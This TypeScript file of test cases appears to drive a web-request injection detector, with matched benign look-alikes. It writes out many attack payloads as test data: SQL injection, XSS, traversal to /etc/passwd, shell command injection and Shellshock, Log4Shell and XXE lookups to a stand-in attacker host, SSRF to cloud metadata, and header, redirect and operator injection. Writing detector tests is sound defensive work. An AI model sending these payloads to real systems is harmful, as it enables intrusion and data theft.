/* eslint-disable no-template-curly-in-string -- What is sent to template languages looks like it. */
import {Buffer} from 'node:buffer';
import type {Case} from './case.ts';

const page = (content: string): string => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Search</title></head><body>${content}</body></html>`;
const search = 'https://app.example.com/search?q=';
const form = {'Content-Type': 'application/x-www-form-urlencoded'};
const query = (value: string): string => search + encodeURIComponent(value);

export const injectionCases: readonly Case[] = [
	{title: 'SQL: a condition that is always true', flows: [{url: query('\' OR \'1\'=\'1')}], finds: ['sql-injection']},
	{title: 'SQL: a condition behind a number', flows: [{url: 'https://app.example.com/item?id=1%20or%201=1'}], finds: ['sql-injection']},
	{title: 'SQL: UNION SELECT, encoded twice', flows: [{url: `${search}${encodeURIComponent(encodeURIComponent('x\' UNION ALL SELECT name, pass FROM users--'))}`}], finds: ['sql-injection']},
	{
		title: 'SQL: in base64 in JSON', flows: [{method: 'POST', requestBody: {token: Buffer.from('1; DROP TABLE users; -- all of it').toString('base64')}}], finds: ['sql-injection'],
	},
	{
		title: 'SQL: in a form, with a comment at the end', flows: [{
			method: 'POST', url: 'https://app.example.com/login', requestHeaders: form, requestBody: 'user=admin%27+--+&pin=1', status: 403,
		}], finds: ['sql-injection'],
	},
	{title: 'SQL: a wait in a cookie', flows: [{requestHeaders: {Cookie: 'lang=en\'||pg_sleep(5)||\''}}], finds: ['sql-injection']},
	{
		title: 'SQL: a quote alone behind a number, answered by an error', flows: [{url: 'https://app.example.com/item?id=1%27', status: 500, body: page('You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version')}], finds: ['sql-injection', 'sql-error'],
	},
	{
		title: 'SQL: a quote answered by an error', flows: [{url: query('O\'Brien'), status: 500, body: page('You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version')}], finds: ['sql-injection', 'sql-error'],
	},
	{
		title: 'a name with a quote', flows: [{url: query('O\'Brien')}], finds: [], clears: ['sql-injection', 'reflected-input'],
	},
	{
		title: 'words of SQL in a sentence', flows: [{url: query('select a size from the list or take the union of all; order by 5 today')}], finds: [], clears: ['sql-injection', 'command-injection'],
	},
	{
		title: 'a dash and a quotation', flows: [{url: query('the "long" -- very long -- way')}], finds: [], clears: ['sql-injection'],
	},
	{
		title: 'code in a report to a tracker', flows: [{
			method: 'POST', url: 'https://tracker.example.com/v1/issues', requestBody: {title: 'Search is slow', body: 'When I run this:\n\n```sql\nSELECT * FROM users WHERE id = 1 OR 1=1 UNION SELECT 1; DROP TABLE x;\n```\n\n```html\n<script>alert(1)</script>\n```\nit takes `cat /etc/passwd` for ever.'}, status: 201, headers: {Location: '/v1/issues/1'}, body: {id: 1},
		}], finds: [], clears: ['sql-injection', 'script-injection', 'path-traversal', 'command-injection', 'template-injection', 'ldap-injection', 'xml-entities', 'jndi-lookup'],
	},

	{title: 'XSS: a script in a query', flows: [{url: query('<script>alert(1)</script>')}], finds: ['script-injection']},
	{title: 'XSS: a handler, as entities in JSON', flows: [{method: 'POST', requestBody: {name: '&lt;img src=x onerror=alert(1)&gt;'}}], finds: ['script-injection']},
	{title: 'XSS: an address that is a script', flows: [{url: 'https://app.example.com/go?next=javascript%3Aalert(document.domain)'}], finds: ['script-injection']},
	{title: 'XSS: shown in text', flows: [{url: query('<svg onload=alert(1)>'), body: page('Results for <svg onload=alert(1)>')}], finds: ['script-injection', 'reflected-input']},
	{title: 'XSS: ends an attribute', flows: [{url: query('shoes" autofocus x="'), body: page('<input name="q" value="shoes" autofocus x="">')}], finds: ['reflected-input']},
	{title: 'XSS: ends a text of a script', flows: [{url: query('it\'s here'), body: page('<script nonce="a">var q = \'it\'s here\';</script>')}], finds: ['reflected-input']},
	{
		title: 'input shown escaped', flows: [{url: query('<b>"shoes"</b>'), body: page('Results for &lt;b&gt;&quot;shoes&quot;&lt;/b&gt;')}], finds: [], clears: ['reflected-input', 'script-injection'],
	},
	{
		title: 'a quote shown in text, where it does no harm', flows: [{url: query('O\'Brien "the" writer'), body: page('<p>Results for O\'Brien "the" writer</p>')}], finds: [], clears: ['reflected-input'],
	},
	{
		title: 'a comparison and a heart', flows: [{url: query('3 < 4 and I <3 on = you'), body: page('x')}], finds: [], clears: ['script-injection', 'sql-injection'],
	},

	{title: 'traversal: up the folders, encoded twice', flows: [{url: 'https://app.example.com/file?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd', status: 404}], finds: ['path-traversal']},
	{title: 'traversal: in the path, answered with the file', flows: [{url: 'https://app.example.com/static/..%2f..%2f..%2fetc/passwd', headers: {'Content-Type': 'text/plain; charset=utf-8'}, body: 'root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n'}], finds: ['path-traversal']},
	{
		title: 'dots in a sentence and a version', flows: [{url: 'https://app.example.com/compare?range=v1.2...v1.3&note=well..%20and%20so%20on/../'}], finds: [], clears: ['path-traversal'],
	},
	{
		title: 'a path of a site', flows: [{url: 'https://app.example.com/docs/etc/hosts-and-names'}], finds: [], clears: ['path-traversal'],
	},

	{title: 'command: behind a semicolon', flows: [{url: 'https://app.example.com/ping?host=127.0.0.1%3Bcat%20/etc/hosts'}], finds: ['command-injection', 'path-traversal']},
	{title: 'command: substituted, with its output', flows: [{url: 'https://app.example.com/ping?host=%24(id)', body: page('uid=33(www-data) gid=33(www-data) groups=33(www-data)')}], finds: ['command-injection']},
	{title: 'command: Shellshock', flows: [{requestHeaders: {'User-Agent': '() { :; }; /bin/cat /etc/hostname'}}], finds: ['command-injection']},
	{
		title: 'a department and a recipe', flows: [{url: 'https://app.example.com/find?team=R%26D%3B%20sales%20%7C%20id%20cards&recipe=wait%3B%20ping%20me'}], finds: [], clears: ['command-injection', 'sql-injection'],
	},

	{title: 'template: a sum', flows: [{url: query('{{7*7}}')}], finds: ['template-injection']},
	{title: 'template: a sum with its result', flows: [{url: query('${1337*1331}'), body: page('Results for 1779547')}], finds: ['template-injection']},
	{title: 'template: the classes of Python', flows: [{url: query('{{ \'\'.__class__.__mro__ }}')}], finds: ['template-injection']},
	{
		title: 'a placeholder and a price', flows: [{method: 'POST', requestBody: {subject: 'Dear {{name}}, your order ${order.id}', price: '$ {5 - 3}'}}], finds: [], clears: ['template-injection', 'jndi-lookup'],
	},

	{title: 'Log4Shell in a header', flows: [{requestHeaders: {'User-Agent': '${jndi:ldap://attacker.example/a}'}}], finds: ['jndi-lookup']},
	{title: 'Log4Shell in pieces', flows: [{url: query('${${lower:j}ndi:${lower:l}dap://attacker.example/a}')}], finds: ['jndi-lookup']},
	{
		title: 'a shell variable in a value', flows: [{url: query('echo ${HOME} and ${env:PATH}')}], finds: [], clears: ['jndi-lookup', 'template-injection', 'command-injection'],
	},

	{title: 'LDAP: another filter', flows: [{url: 'https://app.example.com/people?uid=admin*)(uid=*'}], finds: ['ldap-injection']},
	{title: 'LDAP: always true', flows: [{url: 'https://app.example.com/people?uid=x)(%7C(objectClass=*)'}], finds: ['ldap-injection']},
	{
		title: 'brackets in a phone number and a sum', flows: [{url: 'https://app.example.com/people?phone=(0)(30)%201234&sum=(a=1)*(b=2)'}], finds: [], clears: ['ldap-injection'],
	},

	{
		title: 'XXE: a file', flows: [{
			method: 'POST', url: 'https://api.example.com/v1/import', requestHeaders: {'Content-Type': 'application/xml'}, requestBody: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>', body: {ok: true},
		}], finds: ['xml-entities'],
	},
	{title: 'XXE: in a parameter', flows: [{url: `https://app.example.com/saml?doc=${encodeURIComponent('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd"> %x;]>')}`}], finds: ['xml-entities']},
	{
		title: 'XML with its public document type', flows: [{
			method: 'POST', url: 'https://api.example.com/v1/import', requestHeaders: {'Content-Type': 'application/xml'}, requestBody: '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><!-- hello --></html>', body: {ok: true},
		}], finds: [], clears: ['xml-entities'],
	},
	{
		title: 'XML without one', flows: [{
			method: 'POST', url: 'https://api.example.com/v1/import', requestHeaders: {'Content-Type': 'application/xml'}, requestBody: '<order><item id="7"/></order>', body: {ok: true},
		}], finds: [], clears: ['xml-entities'],
	},

	{title: 'SSRF: the metadata service', flows: [{url: 'https://app.example.com/preview?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F'}], finds: ['server-side-request']},
	{
		title: 'SSRF: loopback as one number', flows: [{
			method: 'POST', url: 'https://api.example.com/v1/hooks', requestBody: {target: 'http://2130706433:8080/admin'}, body: {id: 1},
		}], finds: ['server-side-request'],
	},
	{title: 'SSRF: gopher', flows: [{url: 'https://app.example.com/preview?url=gopher://cache.example.com:6379/_INFO'}], finds: ['server-side-request']},
	{
		title: 'a public address, and the way back of a program', flows: [{url: 'https://app.example.com/authorize?image=https://cdn.example.com/a.png&redirect_uri=http://127.0.0.1:8123/callback'}], finds: [], clears: ['server-side-request', 'open-redirect'],
	},
	{
		title: 'a page in development that tells where it is', flows: [{
			url: 'https://stats.example.com/v1/event?url=http%3A%2F%2Flocalhost%3A3000%2Fa', requestHeaders: {Referer: 'http://localhost:3000/a'}, status: 204, body: '',
		}], finds: [], clears: ['server-side-request'],
	},
	{
		title: 'a development server that names itself', flows: [{url: 'http://localhost:3000/preview?url=http%3A%2F%2Flocalhost%3A3000%2Fa', headers: {'Strict-Transport-Security': undefined}}], finds: [], clears: ['server-side-request'],
	},

	{title: 'CRLF: a cookie', flows: [{url: 'https://app.example.com/go?lang=en%0d%0aSet-Cookie:%20a=b'}], finds: ['header-injection']},
	{title: 'CRLF: with the header in the answer', flows: [{url: 'https://app.example.com/go?lang=en%0d%0aX-Injected:%20yes', headers: {'X-Injected': 'yes'}}], finds: ['header-injection']},
	{
		title: 'lines in a message', flows: [{method: 'POST', requestHeaders: form, requestBody: 'message=Hello%0d%0aLocation:%20Berlin%0d%0aBye'}], finds: [], clears: ['header-injection'],
	},
	{
		title: 'lines in a query', flows: [{url: 'https://app.example.com/note?text=one%0Atwo%0Athree:%20four'}], finds: [], clears: ['header-injection', 'command-injection'],
	},

	{
		title: 'redirect: another site', flows: [{
			url: 'https://app.example.com/login?next=https%3A%2F%2Fattacker.example%2Fa', status: 302, headers: {Location: 'https://attacker.example/a'}, body: '',
		}], finds: ['open-redirect'],
	},
	{
		title: 'redirect: without a scheme', flows: [{
			url: 'https://app.example.com/out?to=//attacker.example', status: 302, headers: {Location: '//attacker.example'}, body: '',
		}], finds: ['open-redirect'],
	},
	{
		title: 'redirect: own site', flows: [{
			url: 'https://app.example.com/login?next=https%3A%2F%2Fwww.example.com%2Fa', status: 302, headers: {Location: 'https://www.example.com/a'}, body: '',
		}], finds: [], clears: ['open-redirect'],
	},
	{
		title: 'redirect: a path', flows: [{
			url: 'https://app.example.com/login?next=/a/b', status: 302, headers: {Location: '/a/b'}, body: '',
		}], finds: [], clears: ['open-redirect'],
	},

	{title: 'operator: of a document database', flows: [{method: 'POST', url: 'https://app.example.com/v1/login', requestBody: {user: 'admin', pin: {$ne: null, $gt: ''}}}], finds: ['operator-injection']},
	{title: 'operator: in a query', flows: [{url: 'https://app.example.com/find?user[$regex]=.*'}], finds: ['operator-injection']},
	{title: 'operator: the prototype', flows: [{url: 'https://app.example.com/find?__proto__[admin]=1'}], finds: ['operator-injection']},
	{
		title: 'OData and a price', flows: [{url: 'https://api.example.com/v1/items?$filter=price%20gt%205&$top=10&cost[in]=usd', body: {value: []}}], finds: [], clears: ['operator-injection', 'sql-injection'],
	},
];
